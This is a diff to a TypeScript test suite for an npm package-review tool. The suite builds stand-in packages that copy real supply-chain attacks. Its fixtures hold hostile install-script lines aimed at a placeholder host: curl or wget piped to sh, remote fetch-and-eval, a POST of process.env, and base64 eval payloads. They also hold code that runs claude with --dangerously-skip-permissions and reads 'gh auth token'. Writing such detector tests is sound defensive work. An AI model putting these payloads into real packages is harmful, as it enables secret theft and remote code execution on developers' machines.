@@ -3,6 +3,7 @@ import { randomBytes } from 'node:crypto';
 import { npmRepository, type Locks } from '../app/npm-repository.js';
 import { inShort, knownAdvisories, memoryHost, ownAnalyser, startWorld } from '../app/world.js';
 import { advisory } from '../app/shelf.js';
+import { checks } from '../../src/checks/index.js';
 import { failed } from '../../src/core/coverage.js';
 import { memoryFactCache } from '../../src/adapters/memory/fact-cache.js';
 import { packageEntries, tgz, type FileMap, type StandInPackage, type StandInVersion } from '../registry/index.js';
@@ -31,13 +32,13 @@ const replicas: readonly Replica[] = [
   { name: 'eslint-scope-2018', after: { manifest: { scripts: { postinstall: 'node ./lib/build.js' } }, files: { ...plain, 'lib/build.js': `require("https").get({ hostname: "${nowhere}", path: "/raw" }, (r) => r.on("data", (c) => eval(c)));\n` } }, said: ['install-script added', 'network-access at-install', 'dynamic-code at-install'] },
   { name: 'ua-parser-2021', after: { manifest: { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }, files: { ...plain, 'preinstall.js': 'const { exec, spawn } = require("child_process");\nif (process.platform === "linux") spawn("./preinstall.sh"); else exec("preinstall.bat");\n', 'preinstall.sh': `curl http://${nowhere}/x -o x && chmod +x x && ./x\n`, 'preinstall.bat': 'rem\n' } }, said: ['install-script added', 'process-spawn at-install'] },
   { name: 'coa-2021', after: { manifest: { scripts: { preinstall: 'start /B node compile.js & node compile.js' } }, files: { ...plain, 'compile.js': 'const _0x1=["child_process","exec"];require(_0x1[0])[_0x1[1]]("sdd.dll");\n' } }, said: ['install-script added', 'process-spawn at-install'] },
-  { name: 'nx-2025', before: built, after: { manifest: { scripts: { postinstall: 'node telemetry.js' } }, files: { ...plain, 'telemetry.js': 'const cp = require("child_process");\ncp.spawnSync("claude", ["--dangerously-skip-permissions", "-p", "list files"]);\ncp.execSync("gh auth token");\n' } }, said: ['install-script changed', 'process-spawn at-install'] },
+  { name: 'nx-2025', before: built, after: { manifest: { scripts: { postinstall: 'node telemetry.js' } }, files: { ...plain, 'telemetry.js': 'const cp = require("child_process");\ncp.spawnSync("claude", ["--dangerously-skip-permissions", "-p", "list files"]);\ncp.execSync("gh auth token");\n' } }, said: ['process-spawn at-install', 'persistence at-install'] },
   { name: 'worm-2025-09', after: { manifest: { scripts: { postinstall: 'node bundle.js' } }, files: { ...plain, 'bundle.js': `${'var a=1;'.repeat(2000)}fetch("https://${nowhere}/",{method:"POST",body:JSON.stringify(process.env)});\n` } }, said: ['install-script added', 'network-access at-install'] },
   { name: 'worm-2025-11', after: { manifest: { scripts: { preinstall: 'node setup_bun.js' } }, files: { ...plain, 'setup_bun.js': `const { execSync } = require("node:child_process");\nexecSync("curl -fsSL https://${nowhere}/install | bash");\nrequire("./bun_environment.js");\n`, 'bun_environment.js': `eval(atob(${text}));\n` } }, said: ['install-script added', 'process-spawn at-install', 'dynamic-code at-install'] },
   { name: 'phantom-gyp-2026', after: { files: { ...plain, 'binding.gyp': '{"targets":[{"target_name":"x","sources":["<!(node run.js)"]}]}\n', 'run.js': `eval(atob(${text}));\n` } }, said: ['gyp-code without-sources', 'dynamic-code at-install'] },
-  { name: 'same-step-other-code', before: built, after: buildsWith(`require("https").request({ host: "${nowhere}" });\n`), said: ['network-access at-install'] },
+  { name: 'same-step-other-code', before: built, after: buildsWith(`require("https").request({ host: "${nowhere}", method: "POST" }).end(JSON.stringify(process.env));\n`), said: ['network-access at-install', 'secret-exfiltration at-install'] },
   { name: 'same-step-other-file', before: built, after: buildsWith('require("./lib/a");\n', { 'lib/a.js': 'require("./b")\n', 'lib/b.js': `new Function(atob(${text}))();\n` }), said: ['dynamic-code at-install'] },
-  { name: 'shell-step', before: built, after: { manifest: { scripts: { postinstall: `node build.js; curl -s https://${nowhere}/x | sh` } }, files: built.files }, said: ['install-script changed'] },
+  { name: 'shell-step', before: built, after: { manifest: { scripts: { postinstall: `node build.js; curl -s https://${nowhere}/x | sh` } }, files: built.files }, said: ['remote-code at-install', 'network-access at-install', 'process-spawn at-install'] },
   { name: 'no-dependency-before', after: { manifest: { scripts: { install: 'sh ./run.sh' } }, files: { ...plain, 'run.sh': `wget -qO- https://${nowhere}/x | sh\n` } }, said: ['install-script added'] },
 ];
 
@@ -64,6 +65,13 @@ const hidings: { readonly [name: string]: string } = {
   'in unicode escapes': `\\u0065val(atob(${text}));\n`,
 };
 
+/** One thing that a build step newly can do, with nothing that comes to it or goes by it: told, and left to who reads it. */
+const lone: readonly (readonly [source: string, said: string])[] = [
+  [`require("https").request({ host: "${nowhere}" });\n`, 'network-access at-install'],
+  ['require("child_process").execFileSync(process.execPath, ["list.js"]);\n', 'process-spawn at-install'],
+  ['new Function(process.argv[2])();\n', 'dynamic-code at-install'],
+];
+
 /** What honest build steps come to do. */
 const honest: readonly string[] = [
   'const fs = require("fs");\nfs.writeFileSync(require("path").join(__dirname, "list.json"), JSON.stringify(fs.readdirSync(__dirname)));\n',
@@ -79,6 +87,7 @@ const gaveUp: readonly Replica[] = [
   { name: 'zeros', after: { tarball: packed('zeros', { ...plain, 'data.bin': new Uint8Array(40_000_000) }) }, said: ['analysis-limit limit', 'install-script TARBALL_LIMIT'] },
   { name: 'deep-folders', after: { tarball: packed('deep-folders', { ...plain, [`${'d/'.repeat(40)}x.js`]: '1' }) }, said: ['analysis-limit limit'] },
   { name: 'no-manifest', after: { tarball: tgz(packageEntries({ 'index.js': `eval(atob(${text}));\n` })) }, said: ['install-script MANIFEST_MALFORMED'] },
+  { name: 'no-manifest-nor-more', after: { tarball: tgz(packageEntries(plain)) }, said: ['install-script MANIFEST_MALFORMED'] },
   { name: 'unparsable-main', after: { files: { 'index.js': `eval(atob(${text}));\n)(` } }, said: ['dynamic-code PARSE_FAILED'] },
   { name: 'noise', after: { tarball: randomBytes(1000) }, said: ['analysis-limit limit', 'install-script TARBALL_MALFORMED'] },
 ];
@@ -87,6 +96,8 @@ const hidden = Object.entries(hidings).map(([name, source], index): Replica => (
 
 const ordinary = honest.map((source, index): Replica => ({ name: `honest-${index}`, before: built, after: buildsWith(source), said: [] }));
 
+const alone = lone.map(([source, said], index): Replica => ({ name: `lone-${index}`, before: built, after: buildsWith(source), said: [said] }));
+
 const packageOf = ({ name, before, after }: Replica): StandInPackage => ({ name, versions: [{ version: '1.0.0', publishedAt: old, files: plain, ...before }, { version: '1.0.1', publishedAt: fresh, ...after }] });
 const axios: readonly StandInPackage[] = [
   { name: 'popular', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { dependencies: { 'plain-crypto': '^1.0.0' } }, files: plain }] },
@@ -94,7 +105,7 @@ const axios: readonly StandInPackage[] = [
   { name: 'remote', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { dependencies: { 'ui-styles': `http://${nowhere}/ui-styles.tgz` } }, files: plain }] },
   { name: 'orphan', versions: [{ version: '1.0.0', publishedAt: old, files: plain }, { version: '1.0.1', publishedAt: fresh, manifest: { optionalDependencies: { setup: `github:fork/setup#${'1'.repeat(40)}` } }, files: plain }] },
 ];
-const shelf = [...[...replicas, ...gaveUp, ...hidden, ...ordinary].map(packageOf), ...axios];
+const shelf = [...[...replicas, ...gaveUp, ...hidden, ...alone, ...ordinary].map(packageOf), ...axios];
 
 const { review, world } = attacked(shelf);
 const repository = (locks: Locks) => npmRepository(shelf, locks);
@@ -126,10 +137,10 @@ describe('making the reviewer give up', () => {
   });
 
   test('a hole is waived by itself, for these bytes, and nothing with it', async () => {
-    const { base, head } = update('no-manifest')();
+    const { base, head } = update('no-manifest-nor-more')();
     const first = await review({ base, head });
     const gap = first.gaps.find((one) => one.check === 'install-script')!;
-    const waiver = `waivers:\n  - finding: ${gap.fingerprint}\n    package: no-manifest\n    version: 1.0.1\n    integrity: ${gap.integrity}\n    reason: it is a data package, read by hand\n    by: maria\n    until: 2026-12-31\n`;
+    const waiver = `waivers:\n  - finding: ${gap.fingerprint}\n    package: no-manifest-nor-more\n    version: 1.0.1\n    integrity: ${gap.integrity}\n    reason: it is a data package, read by hand\n    by: maria\n    until: 2026-12-31\n`;
     const policy = { '.github/mergewarden.yml': waiver };
     const second = await review({ base: { ...base, ...policy }, head: { ...head, ...policy } });
     expect(second.gaps.filter((one) => one.waived).map((one) => one.check)).toEqual(['install-script']);
@@ -139,6 +150,10 @@ describe('making the reviewer give up', () => {
 
 test.each(Object.keys(hidings).map((name, index) => [name, index] as const))('a payload that is hidden is no better off: %s', async (_name, index) => {
   expect(['block', 'unknown']).toContain((await review(update(`hidden-${index}`)())).outcome);
+});
+
+test.each(alone.map(({ name, said }) => [said[0]!, name] as const))('one new thing alone is told and does not block: %s', async (said, name) => {
+  expect(inShort(await review(update(name)()))).toMatchObject({ outcome: 'warn', told: [said], gaps: [] });
 });
 
 hold('an honest build step passes', review, ordinary.map(({ name, said }) => [name, update(name), said] as const));
@@ -155,7 +170,10 @@ describe('a reviewer under load', () => {
     const late = (await busy.review(memoryHost(options.base, options.head), { cache })).verdict;
     await busy.close();
     expect(late.outcome).toBe('unknown');
-    expect(late.gaps.filter((gap) => gap.counts)).toMatchObject([{ code: 'ANALYSER_TIMEOUT', ours: true }, { ours: true }, { ours: true }, { ours: true }, { ours: true }, { ours: true }]);
+    const readers = checks.filter((check) => check.group === 'package' && check.needs.some((need) => need.of.includes('before') && need.kinds.includes('code'))).map((check) => check.id).sort();
+    const counted = late.gaps.filter((gap) => gap.counts);
+    expect(new Set(counted.map((gap) => `${gap.code} ${gap.ours}`))).toEqual(new Set(['ANALYSER_TIMEOUT true']));
+    for (const version of ['1.0.0', '1.0.1']) expect(counted.filter((gap) => gap.subject === `same-step-other-code@${version}`).map((gap) => gap.check).sort()).toEqual(readers);
     const idle = (await world().review(memoryHost(options.base, options.head), { cache })).verdict;
     expect(inShort(idle)).toMatchObject({ outcome: 'block', gaps: [] });
   });
